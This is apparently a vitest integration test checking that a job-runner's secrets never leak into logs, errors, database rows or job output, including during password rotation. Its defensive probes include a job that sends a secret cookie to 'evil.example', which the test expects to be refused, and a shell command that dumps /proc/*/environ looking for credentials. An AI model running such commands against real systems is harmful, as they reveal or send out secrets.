import { spawn } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { constants } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { Redis } from "ioredis";
import { afterAll, beforeAll, expect, test } from "vitest";
import { allAnswers, allKeys, allPages, allRows } from "../support/everything-told.ts";
import { LONG } from "../support/long.ts";
import { type OwnRedis, ownRedis } from "../support/own-servers.ts";
import { type AppProcess, manageApps } from "../support/process.ts";
import { callBadly, startEcho } from "../support/secret-calls.ts";
import { type System, startSystem } from "../support/system.ts";
import { waitFor } from "../support/wait.ts";

/** Each is in one setting, and has characters that URLs, JSON and shells write in other ways. */
const SQL_PASSWORD = 'sql"Qz8Hush/1%';
const REDIS_PASSWORD = "redis@Qz8Hush:2é";
const ROTATED = "rotated-Qz8Hush-3";
const WRONG = "wrong-Qz8Hush-4";
const OTHERS = "api-key-Qz8Hush-5";
const NAMED = 'named&Qz8Hush"6';
const TOKEN = `mst_live_0123456789Ab_Qz8Hush7${"x".repeat(35)}_0aZ9bY`;
const JWT = `${base64({ alg: "RS256" })}.${base64({ sub: "Qz8Hush-8", exp: 4_000_000_000 })}.Qz8Hush8signature`;
/** Part of each of them. */
const MARK = "Qz8Hush";
/** However it is written: in base64 it stands at any of three places. */
const ANY: string = [MARK, Buffer.from(MARK).toString("hex"), ...["", "_", "__"].map(inBase64)].join("|");
const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const HANDLERS = `${ROOT}test/support/handlers/leaking.ts`;

/** The digits that nothing around it changes. */
function inBase64(before: string): string {
  const digits = Buffer.from(`${before}${MARK}`).toString("base64url");
  return digits.slice(
    Math.ceil((before.length * 8) / 6),
    Math.floor(((before.length + MARK.length) * 8) / 6),
  );
}

function base64(claims: object): string {
  return Buffer.from(JSON.stringify(claims)).toString("base64url");
}

/** Each with what stands around it. */
const foundIn = (text: string): string[] =>
  [...text.matchAll(new RegExp(`.{0,80}(?:${ANY}).{0,80}`, "gu"))].map(String);

manageApps();

let system: System;
let redis: OwnRedis;
let admin: Redis;
let databaseUrl: string;
let redisUrl: string;

beforeAll(async () => {
  system = await startSystem();
  redis = await ownRedis({ settings: { requirepass: REDIS_PASSWORD } });
  admin = new Redis(redis.port, { password: REDIS_PASSWORD });
  const url = new URL(system.databaseUrl);
  url.password = encodeURIComponent(SQL_PASSWORD);
  databaseUrl = url.href;
  redisUrl = `redis://:${encodeURIComponent(REDIS_PASSWORD)}@127.0.0.1:${redis.port}`;
});
afterAll(async () => {
  admin.disconnect();
  await redis.remove();
  await system[Symbol.asyncDispose]();
});

/** Everything of these processes that others get to see, as one text. Payloads are the callers' own. */
async function seenOf(apps: readonly AppProcess[], said: readonly (() => string)[]): Promise<string> {
  const told = await Promise.all([allRows(system), allKeys(admin), allPages(apps)]);
  return [...said.map((all) => all()), ...told.flat()].join("\n");
}

/** Whether the process, or Node in it, does something when it gets the signal. */
function hears(pid: number, signal: number): boolean {
  const caught = /^SigCgt:\s*([\da-f]+)$/mu.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? "";
  return ((BigInt(`0x${caught}`) >> BigInt(signal - 1)) & 1n) === 1n;
}

/** The same with another host before it, that nobody listens at, and the password among the parameters. */
function ofTwoHosts(text: string): string {
  const { username, password, host, pathname } = new URL(text);
  return `postgres://${username}@127.0.0.1:1,${host}${pathname}?password=${password}`;
}

/** The row of a job that has ended. */
async function run(
  api: AppProcess,
  type: string,
  json: object,
): Promise<{ status: string; result: string; last_error: string }> {
  const body = { case: "payload", value: Buffer.from(JSON.stringify(json)) } as const;
  const { jobId } = await system.client(api).submitJob({ job: { type, body, maxAttempts: 1 } });
  return waitFor(
    async () => {
      const [row] = await system.query<{ status: string; result: string; last_error: string }>(
        "SELECT status, result, last_error FROM jobs WHERE task_id = $1 AND finished_at IS NOT NULL",
        [jobId],
      );
      return row;
    },
    { what: `the ${type} job to end` },
  );
}

test("case D2, case G1, case G6: nothing of a secret is in what a job can read, at any level, also while it is rotated", async () => {
  using echo = await startEcho();
  const folder = join(system.folder, "secrets");
  await mkdir(folder);
  await writeFile(join(folder, "stripe"), NAMED);
  const env = { DATABASE_URL: databaseUrl, REDIS_URL: redisUrl };
  const [api, worker] = await Promise.all([
    system.start("api", { ...env, LOG_LEVEL: "trace" }),
    system.start("worker", {
      ...env,
      LOG_LEVEL: "trace",
      DATABASE_URL: ofTwoHosts(databaseUrl),
      COMMAND_ALLOW: "sh",
      COMMAND_ENV_ALLOW: "API_KEY",
      HANDLERS,
      HTTP_ALLOW_PRIVATE: "127.0.0.1",
      PAYMENT_API_KEY: OTHERS,
      SECRETS_DIR: folder,
      SECRETS_ALLOW: `stripe:spending*,stripe:http@${echo.url},stripe:command@sh`,
    }),
  ]);
  const apps = [api, worker];
  const said = apps.map((app) => app.keepOutput());
  // case D2: handlers know it, for they may use the same database; what they throw does not tell it.
  const ended = await Promise.all([
    ...["leaking", "leakingAlone"].map((type) => run(api, type, {})),
    ...["spending", "spendingAlone"].flatMap((type) => [
      run(api, type, { fail: true }),
      run(api, type, { fail: false }),
    ]),
    run(api, "http", { url: `http://user:${OTHERS}@127.0.0.1:1/?key=${OTHERS}` }),
    run(api, "http", { url: echo.url, headers: { authorization: "Bearer {{secret:stripe}}" } }),
    run(api, "http", { url: echo.url, headers: { "x-fail": "1", cookie: "secret:stripe" } }),
    run(api, "http", { url: "https://evil.example", headers: { cookie: "secret:stripe" } }),
    run(api, "command", {
      argv: ["sh", "-c", 'echo "$API_KEY"; echo "$API_KEY" >&2; exit 1'],
      env: { API_KEY: "secret:stripe" },
    }),
  ]);
  for (const { last_error: error } of ended.slice(0, 2)) expect(error).toContain("cannot reach postgres");
  expect(ended.map(({ status }) => status).join(" ")).toBe(
    "deadletter deadletter deadletter succeeded deadletter succeeded deadletter succeeded failed failed deadletter",
  );
  expect(ended.at(-2)?.last_error).toContain(
    "secret:stripe is not allowed for jobs of type http@evil.example",
  );
  const answers = [...(await callBadly(api, [TOKEN, JWT])), ...(await allAnswers(system, api))];
  await expectSealed(api, apps);
  await admin.config("SET", "requirepass", ROTATED);
  await admin.call("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes");
  for (const app of apps) await waitFor(() => app.output().includes("WRONGPASS"), { what: "a refusal" });
  expect(foundIn(answers.join("\n"))).toEqual([]);
  expect(foundIn(await seenOf(apps, said))).toEqual([]);
});

/** case G1: the isolated processes of the jobs before still live. */
async function expectSealed(api: AppProcess, apps: readonly AppProcess[]): Promise<void> {
  // Not the mark itself, which would find this program itself.
  const argv = [
    "sh",
    "-c",
    "cat /proc/$0/environ | tr '\\0' '\\n'; grep -als '[Q]z8Hush' /proc/[0-9]*/environ /proc/[0-9]*/cmdline; true",
  ];
  for (const { pid } of apps) {
    const { result } = await run(api, "command", { argv: [...argv, String(pid)] });
    expect(JSON.parse(result)).toMatchObject({ stdout: expect.stringMatching(/^PATH=/mu) });
    expect(result).not.toContain("/proc/");
  }
  // By a SIGUSR1, any other Node process opens a debugger, which shows and runs everything.
  for (const { pid } of apps) expect(hears(pid, constants.signals.SIGUSR1)).toBe(false);
}

test.runIf(LONG)(
  "case D2: no secret is told by a process that cannot use it: refused, unreachable, or no URL at all",
  async () => {
    const refused = `redis://:${WRONG}@127.0.0.1:${redis.port}`;
    const [api, worker] = await Promise.all([
      system.start("api", { DATABASE_URL: ofTwoHosts(databaseUrl), REDIS_URL: refused, LOG_LEVEL: "debug" }),
      system.start("worker", {
        DATABASE_URL: databaseUrl,
        REDIS_URL: "",
        REDIS_HOST: "127.0.0.1",
        REDIS_PORT: String(redis.port),
        REDIS_PASSWORD: WRONG,
        LOG_LEVEL: "info",
      }),
    ]);
    for (const app of [api, worker])
      await waitFor(() => app.output().includes("WRONGPASS"), { what: "a refusal" });
    const apps = [api, worker];
    const said = apps.map((app) => () => app.output());
    expect(foundIn(await seenOf(apps, said))).toEqual([]);
    const urls = [
      `postgres://app:${WRONG}@127.0.0.1:1/none`,
      `postgres://app:${WRONG}/#@h:x/none`,
      `app:${WRONG}@h/none`,
      `postgres://app@127.0.0.1:1,127.0.0.1:2/none?password=${WRONG}%26${WRONG}`,
      `postgres://app@a,b/none?sslpassword=${WRONG}+2&sslmode=none`,
      `postgres://app@a,b/none?password=1&${WRONG}`,
      `postgres://app:${WRONG}%@a,b/none%`,
    ];
    const mains = ["api", "worker"].map((app) => `apps/${app}/src/main.ts`);
    const ended = await Promise.all([
      ...urls.map((DATABASE_URL) => tell("packages/db/src/migrate-main.ts", { DATABASE_URL })),
      ...mains.map((main, index) =>
        tell(main, {
          DATABASE_URL: `mysql://app:${WRONG}@h/d`,
          REDIS_URL: `:${WRONG}@h`,
          LOG_LEVEL: ["error", "fatal"][index] ?? "silent",
        }),
      ),
    ]);
    for (const { status, text } of ended) {
      expect(status).toBe(1);
      expect(text).toMatch(/wrong configuration|migrate failed/u);
      expect(foundIn(text)).toEqual([]);
    }
  },
);

interface Told {
  readonly status: number | null;
  readonly text: string;
}

/** Runs a process that ends by itself. */
async function tell(main: string, env: Readonly<Record<string, string>>): Promise<Told> {
  const { PATH = "", HOME = "" } = process.env;
  const child = spawn(process.execPath, [main], { cwd: ROOT, env: { PATH, HOME, ...env }, timeout: 120_000 });
  let text = "";
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding("utf8").on("data", (chunk: string) => (text += chunk));
  const [status] = (await once(child, "close")) as [number | null];
  return { status, text };
}
